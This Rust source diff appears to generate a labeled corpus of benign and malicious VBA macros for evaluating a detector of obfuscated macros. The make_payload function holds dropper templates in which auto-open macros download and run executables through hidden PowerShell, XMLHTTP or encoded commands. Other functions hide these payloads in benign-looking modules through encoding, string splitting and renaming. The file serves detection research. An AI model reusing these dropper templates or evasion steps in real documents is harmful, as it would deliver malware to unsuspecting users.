@@ -1,0 +1,419 @@
+//! Macro-level corpus assembly: the evaluation set of Table III, with
+//! obfuscation applied per the paper's rates and Figure 5(b)'s length
+//! clusters.
+
+use crate::spec::CorpusSpec;
+use crate::templates::{benign, malicious};
+use rand::rngs::StdRng;
+use rand::Rng;
+use rand::SeedableRng;
+use std::collections::HashSet;
+use vbadet_obfuscate::{Obfuscator, Technique};
+
+/// One labeled macro in the evaluation set.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct MacroSample {
+    /// The module source code.
+    pub source: String,
+    /// Ground truth: was an obfuscator applied? (The classification target.)
+    pub obfuscated: bool,
+    /// Did this macro come from the malicious population? (Table III
+    /// context only; the paper classifies obfuscation, not maliciousness.)
+    pub malicious: bool,
+    /// How the macro was obfuscated (diagnostics/ablations; not a feature).
+    pub profile: ObfuscationProfile,
+}
+
+/// Which generation profile produced an obfuscated macro.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum ObfuscationProfile {
+    /// Not obfuscated.
+    None,
+    /// Full pipeline targeted at a Figure 5(b) length cluster.
+    FullCluster,
+    /// Light: a few strings encoded (O3, limited).
+    LightEncoding,
+    /// Light: a few strings split (O2, limited).
+    LightSplit,
+    /// Light: a fraction of identifiers renamed (O1, partial).
+    LightRename,
+    /// Light: small dummy-code insertion only (O4).
+    LightLogic,
+}
+
+/// Figure 5(b): obfuscated macros cluster around these code lengths,
+/// interpreted as different obfuscator configurations producing variants.
+/// Logic-obfuscation intensity is the size knob (≈55 chars per dummy
+/// statement).
+const LENGTH_CLUSTERS: [(usize, f64); 3] = [
+    (1_500, 0.45), // (target chars, weight)
+    (3_000, 0.35),
+    (15_000, 0.20),
+];
+
+/// Generates the full macro evaluation set for `spec` (paper: 4,212 macros,
+/// 877 obfuscated). Deterministic in `spec.seed`. All macros are unique and
+/// at least 150 bytes (the paper's dedup and length filters are satisfied
+/// by construction, and verified end-to-end by the document pipeline).
+pub fn generate_macros(spec: &CorpusSpec) -> Vec<MacroSample> {
+    let mut rng = StdRng::seed_from_u64(spec.seed);
+    let mut seen: HashSet<u64> = HashSet::new();
+    let mut out = Vec::with_capacity(spec.total_macros());
+
+    // Benign macros: lengths ~ uniform (Figure 5a); the first
+    // `benign_obfuscated` get obfuscated (IP-protection scenario).
+    for i in 0..spec.benign_macros {
+        let obfuscate = i < spec.benign_obfuscated;
+        let (source, profile) = loop {
+            let target = rng.gen_range(200..14_000);
+            let base = benign::generate(&mut rng, target);
+            let candidate = if obfuscate {
+                obfuscate_sample(&base, false, &mut rng)
+            } else {
+                (base, ObfuscationProfile::None)
+            };
+            if is_fresh(&candidate.0, &mut seen) {
+                break candidate;
+            }
+        };
+        out.push(MacroSample { source, obfuscated: obfuscate, malicious: false, profile });
+    }
+
+    // Malicious macros: small downloaders; almost all obfuscated.
+    for i in 0..spec.malicious_macros {
+        let obfuscate = i < spec.malicious_obfuscated;
+        let (source, profile) = loop {
+            let base = malicious::generate(&mut rng);
+            let candidate = if obfuscate {
+                obfuscate_sample(&base, true, &mut rng)
+            } else {
+                (base, ObfuscationProfile::None)
+            };
+            if is_fresh(&candidate.0, &mut seen) {
+                break candidate;
+            }
+        };
+        out.push(MacroSample { source, obfuscated: obfuscate, malicious: true, profile });
+    }
+    out
+}
+
+/// Fraction of obfuscated macros that are only *lightly* obfuscated: one
+/// technique, partially applied, often hidden inside normal-looking code.
+/// These are the hard cases that keep real-world recall below 1.0 (Table V:
+/// the paper's best recall is 0.915).
+const LIGHT_FRACTION: f64 = 0.55;
+
+fn obfuscate_sample<R: Rng + ?Sized>(
+    base: &str,
+    malicious: bool,
+    rng: &mut R,
+) -> (String, ObfuscationProfile) {
+    if rng.gen_bool(LIGHT_FRACTION) {
+        apply_light_obfuscation(base, malicious, rng)
+    } else {
+        (apply_cluster_obfuscation(base, rng), ObfuscationProfile::FullCluster)
+    }
+}
+
+/// Light obfuscation: dilute the payload with benign-looking filler, then
+/// apply exactly one technique with limited reach.
+fn apply_light_obfuscation<R: Rng + ?Sized>(
+    base: &str,
+    malicious: bool,
+    rng: &mut R,
+) -> (String, ObfuscationProfile) {
+    // The hard cases in real corpora are *shape-preserving*: the attacker
+    // takes an innocuous module (here: a benign shape donor drawn from the
+    // same length distribution as the benign population) and injects a small
+    // payload procedure whose own strings/names are hidden. Every appearance
+    // statistic stays benign-distributed; only the obfuscation *mechanisms*
+    // — encoded strings, text-function calls, partially randomized names —
+    // remain in the text. (For obfuscated-benign macros the donor is the
+    // macro itself and a few of its own strings are transformed: the
+    // IP-protection scenario.)
+    if malicious {
+        let donor_len = rng.gen_range(600..9_000);
+        let donor = benign::generate(rng, donor_len);
+        let payload = make_payload(rng);
+        let (payload, profile) = match rng.gen_range(0..100) {
+            0..=39 => (
+                vbadet_obfuscate::encoding::apply(&payload, rng),
+                ObfuscationProfile::LightEncoding,
+            ),
+            40..=69 => (
+                vbadet_obfuscate::split::apply(&payload, rng),
+                ObfuscationProfile::LightSplit,
+            ),
+            70..=92 => {
+                let fraction = rng.gen_range(0.4..0.8);
+                // Renaming runs over the whole module after injection.
+                let module = insert_payload(&donor, &payload);
+                return (
+                    vbadet_obfuscate::random::apply_fraction(&module, fraction, rng).0,
+                    ObfuscationProfile::LightRename,
+                );
+            }
+            _ => {
+                let module = insert_payload(&donor, &payload);
+                return (
+                    Obfuscator::new()
+                        .with(Technique::LogicWithIntensity(rng.gen_range(3..10)))
+                        .apply(&module, rng)
+                        .source,
+                    ObfuscationProfile::LightLogic,
+                );
+            }
+        };
+        (insert_payload(&donor, &payload), profile)
+    } else {
+        match rng.gen_range(0..100) {
+            0..=39 => (
+                vbadet_obfuscate::encoding::apply_limited(base, rng.gen_range(2..=6), rng),
+                ObfuscationProfile::LightEncoding,
+            ),
+            40..=69 => (
+                vbadet_obfuscate::split::apply_limited(base, rng.gen_range(3..=8), rng),
+                ObfuscationProfile::LightSplit,
+            ),
+            70..=92 => {
+                let fraction = rng.gen_range(0.4..0.8);
+                (
+                    vbadet_obfuscate::random::apply_fraction(base, fraction, rng).0,
+                    ObfuscationProfile::LightRename,
+                )
+            }
+            _ => (
+                Obfuscator::new()
+                    .with(Technique::LogicWithIntensity(rng.gen_range(3..10)))
+                    .apply(base, rng)
+                    .source,
+                ObfuscationProfile::LightLogic,
+            ),
+        }
+    }
+}
+
+/// A small auto-executing payload procedure, sized and styled like ordinary
+/// hand-written procedures.
+fn make_payload<R: Rng + ?Sized>(rng: &mut R) -> String {
+    let trigger =
+        ["AutoOpen", "Document_Open", "Workbook_Open", "Auto_Open"][rng.gen_range(0..4)];
+    let host: String =
+        (0..rng.gen_range(8..14)).map(|_| (b'a' + rng.gen_range(0u8..26)) as char).collect();
+    let exe: String =
+        (0..rng.gen_range(4..9)).map(|_| (b'a' + rng.gen_range(0u8..26)) as char).collect();
+    let sh = ["sh", "wsh", "obj", "runner"][rng.gen_range(0..4)];
+    match rng.gen_range(0..3) {
+        0 => format!(
+            "Sub {trigger}()\r\n\
+             \x20   Dim {sh} As Object\r\n\
+             \x20   Set {sh} = CreateObject(\"WScript.Shell\")\r\n\
+             \x20   {sh}.Run \"powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('http://{host}.com/{exe}.exe', $env:TEMP + '\\{exe}.exe')\", 0, False\r\n\
+             \x20   Shell Environ(\"TEMP\") & \"\\{exe}.exe\", 0\r\n\
+             End Sub\r\n"
+        ),
+        1 => format!(
+            "Sub {trigger}()\r\n\
+             \x20   Dim {sh} As Object\r\n\
+             \x20   Set {sh} = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
+             \x20   {sh}.Open \"GET\", \"http://{host}.net/{exe}.exe\", False\r\n\
+             \x20   {sh}.Send\r\n\
+             \x20   SaveBody {sh}.responseBody, Environ(\"TEMP\") & \"\\{exe}.exe\"\r\n\
+             End Sub\r\n"
+        ),
+        _ => format!(
+            "Sub {trigger}()\r\n\
+             \x20   Dim {sh} As String\r\n\
+             \x20   {sh} = \"cmd /c start /b powershell -enc {}\"\r\n\
+             \x20   Shell {sh}, 0\r\n\
+             End Sub\r\n",
+            base64ish(rng, 48),
+        ),
+    }
+}
+
+/// Inserts the payload before the donor's first procedure so the trigger
+/// leads the module, as macro droppers do.
+fn insert_payload(donor: &str, payload: &str) -> String {
+    let insert_at = donor.find("\r\nSub ").or_else(|| donor.find("\r\nFunction ")).map(|p| p + 2);
+    match insert_at {
+        Some(pos) => {
+            let mut out = donor.to_string();
+            out.insert_str(pos, payload);
+            out.insert_str(pos + payload.len(), "\r\n");
+            out
+        }
+        None => {
+            let mut out = donor.to_string();
+            out.push_str("\r\n");
+            out.push_str(payload);
+            out
+        }
+    }
+}
+
+/// Base64-alphabet filler for `-enc` payload arguments.
+fn base64ish<R: Rng + ?Sized>(rng: &mut R, len: usize) -> String {
+    const SET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    (0..len).map(|_| SET[rng.gen_range(0..SET.len())] as char).collect()
+}
+
+fn is_fresh(source: &str, seen: &mut HashSet<u64>) -> bool {
+    use std::hash::{Hash, Hasher};
+    let mut h = std::collections::hash_map::DefaultHasher::new();
+    source.hash(&mut h);
+    seen.insert(h.finish())
+}
+
+/// Obfuscates `base` toward one of the Figure 5(b) length clusters.
+fn apply_cluster_obfuscation<R: Rng + ?Sized>(base: &str, rng: &mut R) -> String {
+    let roll: f64 = rng.gen();
+    let mut acc = 0.0;
+    let mut target = LENGTH_CLUSTERS[0].0;
+    for &(len, weight) in &LENGTH_CLUSTERS {
+        acc += weight;
+        if roll <= acc {
+            target = len;
+            break;
+        }
+    }
+    // String transforms first, then logic obfuscation applied in a closed
+    // loop until the cluster's target size is reached (real obfuscators are
+    // run with a fixed config, which is exactly what produces the paper's
+    // horizontal lines — the config here is "the target size").
+    let string_stage = if rng.gen_bool(0.5) { Technique::Split } else { Technique::Encoding };
+    let mut current =
+        Obfuscator::new().with(string_stage).apply(base, rng).source;
+    while current.len() < target {
+        let deficit = target - current.len();
+        let intensity = (deficit / 110).clamp(1, 400);
+        current = Obfuscator::new()
+            .with(Technique::LogicWithIntensity(intensity))
+            .apply(&current, rng)
+            .source;
+    }
+    Obfuscator::new().with(Technique::Random).apply(&current, rng).source
+}
+
+/// Code lengths of the obfuscated and non-obfuscated groups, for Figure 5.
+/// Returns `(non_obfuscated_lengths, obfuscated_lengths)`.
+pub fn length_profile(macros: &[MacroSample]) -> (Vec<usize>, Vec<usize>) {
+    let mut plain = Vec::new();
+    let mut obf = Vec::new();
+    for m in macros {
+        if m.obfuscated {
+            obf.push(m.source.len());
+        } else {
+            plain.push(m.source.len());
+        }
+    }
+    (plain, obf)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn small_spec() -> CorpusSpec {
+        CorpusSpec::paper().scaled(0.05)
+    }
+
+    #[test]
+    fn counts_match_spec() {
+        let spec = small_spec();
+        let macros = generate_macros(&spec);
+        assert_eq!(macros.len(), spec.total_macros());
+        let obf = macros.iter().filter(|m| m.obfuscated).count();
+        assert_eq!(obf, spec.benign_obfuscated + spec.malicious_obfuscated);
+        let mal = macros.iter().filter(|m| m.malicious).count();
+        assert_eq!(mal, spec.malicious_macros);
+    }
+
+    #[test]
+    fn all_macros_unique_and_long_enough() {
+        let macros = generate_macros(&small_spec());
+        let mut seen = HashSet::new();
+        for m in &macros {
+            assert!(m.source.len() >= 150, "too short: {}", m.source.len());
+            assert!(seen.insert(m.source.clone()), "duplicate macro");
+        }
+    }
+
+    #[test]
+    fn deterministic_per_seed() {
+        let a = generate_macros(&small_spec());
+        let b = generate_macros(&small_spec());
+        assert_eq!(a, b);
+        let c = generate_macros(&small_spec().with_seed(1));
+        assert_ne!(a, c);
+    }
+
+    #[test]
+    fn obfuscated_lengths_cluster() {
+        let spec = CorpusSpec::paper().scaled(0.1);
+        let macros = generate_macros(&spec);
+        let (_, obf) = length_profile(&macros);
+        // Each obfuscated macro should be near one of the cluster centers.
+        let near_cluster = obf
+            .iter()
+            .filter(|&&len| {
+                LENGTH_CLUSTERS.iter().any(|&(c, _)| {
+                    let tolerance = if c >= 15_000 { 0.25 } else { 0.6 };
+                    let relative = (len as f64 - c as f64).abs() / (c as f64);
+                    relative < tolerance
+                })
+            })
+            .count();
+        // Only the "full" profile (1 - LIGHT_FRACTION of obfuscated
+        // macros) targets the clusters; the light profile is intentionally
+        // off-cluster.
+        assert!(
+            near_cluster as f64 / obf.len() as f64 > (1.0 - LIGHT_FRACTION) * 0.85,
+            "{near_cluster}/{} near clusters",
+            obf.len()
+        );
+    }
+
+    #[test]
+    fn benign_lengths_spread_widely() {
+        let spec = CorpusSpec::paper().scaled(0.1);
+        let macros = generate_macros(&spec);
+        let (plain, _) = length_profile(&macros);
+        let min = *plain.iter().min().unwrap();
+        let max = *plain.iter().max().unwrap();
+        assert!(min < 1_000, "min {min}");
+        assert!(max > 10_000, "max {max}");
+    }
+
+    #[test]
+    fn obfuscated_macros_look_obfuscated() {
+        let spec = small_spec();
+        let macros = generate_macros(&spec);
+        // Spot-check: for the string-targeting profiles (the 70% "full"
+        // ones plus the limited split/encode variants), the true payload URL
+        // — recoverable by evaluating the obfuscated expressions — must not
+        // survive as a raw literal. Only the partial-rename and logic-only
+        // light variants legitimately leave literals alone, so a clear
+        // majority must have no intact URL.
+        let mut total = 0usize;
+        let mut leaky = 0usize;
+        for m in macros.iter().filter(|m| m.malicious && m.obfuscated) {
+            total += 1;
+            let analysis = vbadet_vba::MacroAnalysis::new(&m.source);
+            let raw: Vec<&str> = analysis.strings();
+            let intact = vbadet_obfuscate::recover::recover_strings(&m.source)
+                .iter()
+                .any(|r| {
+                    r.starts_with("http://") && r.ends_with(".exe") && raw.contains(&r.as_str())
+                });
+            if intact {
+                leaky += 1;
+            }
+        }
+        assert!(
+            (leaky as f64) < 0.3 * total as f64,
+            "too many intact URLs: {leaky}/{total}"
+        );
+    }
+}
